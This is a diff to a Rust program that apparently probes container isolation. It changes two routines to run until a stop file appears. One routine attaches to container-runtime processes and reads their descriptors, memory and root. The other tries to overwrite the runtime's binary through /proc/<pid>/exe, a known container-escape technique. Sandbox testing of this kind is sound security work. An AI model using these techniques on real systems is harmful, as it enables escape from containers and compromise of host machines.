@@ -8,7 +8,8 @@ use std::ffi::CString;
 use std::io::{Error, Result};
 use std::os::fd::AsRawFd;
 use std::os::unix::fs::OpenOptionsExt;
-use std::time::{Duration, Instant};
+use std::path::Path;
+use std::time::Duration;
 
 fn main() {
     let words: Vec<String> = std::env::args().skip(1).collect();
@@ -39,8 +40,8 @@ fn attempt(words: &[&str]) -> Result<()> {
         ["ioctl", request] => ioctl(number(request)),
         ["call", which] => call(which),
         ["sleep-as", seconds] => sleep_as(number(seconds)),
-        ["grab", seconds] => grab(number(seconds)),
-        ["overwrite", seconds] => overwrite(number(seconds)),
+        ["grab", stop] => grab(Path::new(stop)),
+        ["overwrite", stop] => overwrite(Path::new(stop)),
         ["fds"] => fds(),
         other => payload::attempt(other),
     }
@@ -256,15 +257,17 @@ fn others() -> Vec<i32> {
 }
 
 /// Look into every process that appears: attach to it, list and open its descriptors, its memory and its root. Prints
-/// whatever was caught, unless it is plainly the container's own.
-fn grab(seconds: i64) -> Result<()> {
+/// whatever was caught, unless it is plainly the container's own. Ends when `stop` exists.
+fn grab(stop: &Path) -> Result<()> {
     println!("grabbing");
-    let end = Instant::now() + Duration::from_secs(seconds as u64);
     let (mut looks, mut seen) = (0u64, std::collections::BTreeSet::new());
-    while Instant::now() < end {
+    while !stop.exists() {
         for pid in others() {
             looks += 1;
             if is_runtime(pid) {
+                if seen.is_empty() {
+                    println!("first={pid}");
+                }
                 seen.insert(pid);
                 grab_one(pid);
             }
@@ -310,18 +313,20 @@ fn grab_one(pid: i32) {
     }
 }
 
-/// Try to write to the binary of every process that appears, and to our own.
-fn overwrite(seconds: i64) -> Result<()> {
+/// Try to write to the binary of every process that appears, and to our own. Ends when `stop` exists.
+fn overwrite(stop: &Path) -> Result<()> {
     println!("overwriting");
-    let end = Instant::now() + Duration::from_secs(seconds as u64);
     let mut tries = 0u64;
-    while Instant::now() < end {
+    while !stop.exists() {
         for pid in others() {
             let path = format!("/proc/{pid}/exe");
             // Held open for reading until the process has let go of it, as the published exploits do.
             let Ok(held) = std::fs::File::open(&path) else { continue };
             if !is_runtime(pid) {
                 continue;
+            }
+            if tries == 0 {
+                println!("first={pid}");
             }
             tries += 1;
             let again = format!("/proc/self/fd/{}", held.as_raw_fd());
